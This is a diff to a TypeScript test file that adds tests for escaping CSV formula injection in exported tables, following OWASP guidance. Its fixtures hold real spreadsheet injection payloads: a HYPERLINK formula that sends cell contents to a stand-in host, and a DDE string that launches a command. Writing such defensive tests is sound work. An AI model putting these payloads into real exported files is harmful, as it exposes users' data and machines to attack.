@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { SECRET, SMALL as hidden, estimated, notReached, tooFew } from '../testing/monitor-fixture.ts';
-import { cellText, count, csvFileName, csvText, days, estimate, money, quantile, share, tableLegend, text, toCsv, unpublished, type FigureValue } from './figure-table.ts';
+import { cellText, count, csvFileName, csvText, days, estimate, money, neutraliseFormula, quantile, share, tableLegend, text, toCsv, unpublished, type FigureValue } from './figure-table.ts';
 import { EXACT_LEGEND, PROTECTED_LEGEND, SECRET_LEGEND, UNPUBLISHED_TOTALS_NOTE } from './format.ts';
 
 const shown = (n: number, isProtected = true) => ({ count: n, display: String(n), suppressed: false, protected: isProtected });
@@ -70,6 +70,51 @@ describe('toCsv', () => {
     const money5 = { ...table, rows: [{ key: 'a', cells: [text('a'), money(5)] }] };
     expect(tableLegend(money5)).toEqual([]);
     expect(toCsv(money5).trimEnd().split('\r\n')).toHaveLength(2);
+  });
+});
+
+describe('CSV formula injection (OWASP)', () => {
+  // Rule: every field (cell, column label, legend) that starts with = + - @ TAB or CR gets a leading
+  // single quote, unless it is a plain number as csvText writes them ('-3', '-12,50', '1.5').
+  it.each([
+    ['=HYPERLINK("https://elders.example/?x="&A1;"Klik")', `'=HYPERLINK("https://elders.example/?x="&A1;"Klik")`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3+cmd|x', "'-2+3+cmd|x"],
+    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['-', "'-"],
+  ])('neutralises %j', (field, expected) => {
+    expect(neutraliseFormula(field)).toBe(expected);
+  });
+
+  it.each(['-3', '-1500', '-12,50', '-2,50', '-0.5', '12', 'Beschermd wonen', "l'escaut", 'a=b', ''])('leaves %j as it is', (field) => {
+    expect(neutraliseFormula(field)).toBe(field);
+  });
+
+  it('neutralises text cells and labels in the file, and keeps negative numbers and decimal commas numbers', () => {
+    const table = {
+      caption: 'Aanval',
+      columns: [
+        { label: '=Voorziening', numeric: false },
+        { label: 'Verschil', numeric: true },
+        { label: 'Bedrag', numeric: true },
+      ],
+      rows: [
+        { key: 'a', cells: [text('=HYPERLINK("https://elders.example";"x")'), { kind: 'difference', value: -3, unit: 'count' } as FigureValue, money(-1_250)] },
+        { key: 'b', cells: [text("+cmd|' /C calc'!A0"), { kind: 'difference', value: -250, unit: 'points' } as FigureValue, money(99)] },
+        { key: 'c', cells: [text('@SUM(A1:A2)'), estimate(-4), money(null)] },
+        { key: 'd', cells: [text('-1+1'), { kind: 'difference', value: null, unit: 'count' } as FigureValue, money(0)] },
+      ],
+    };
+    expect(toCsv(table).slice(1).split('\r\n')).toEqual([
+      "'=Voorziening;Verschil;Bedrag",
+      `"'=HYPERLINK(""https://elders.example"";""x"")";-3;-12,50`,
+      "'+cmd|' /C calc'!A0;-2,50;0,99",
+      "'@SUM(A1:A2);-4;",
+      "'-1+1;;0,00",
+      '',
+    ]);
   });
 });
 
